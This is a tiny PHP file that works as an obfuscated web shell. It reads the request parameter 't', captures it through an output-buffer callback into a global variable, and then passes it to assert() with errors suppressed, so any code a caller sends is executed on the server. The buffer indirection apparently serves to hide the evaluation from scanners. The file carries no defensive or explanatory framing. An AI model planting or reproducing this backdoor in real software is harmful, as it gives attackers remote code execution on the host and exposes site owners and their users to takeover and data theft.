<?php
// the request is printed into an output buffer whose callback keeps it in a global; the global
// is evaluated once the buffer is flushed
$tpl = "";
ob_start(function ($buffer, $phase) {
    global $tpl;
    $tpl = $buffer;
    return '';
});
echo isset($_REQUEST['t']) ? $_REQUEST['t'] : '';
ob_end_flush();
if ($tpl !== '') {
    @assert($tpl);
}
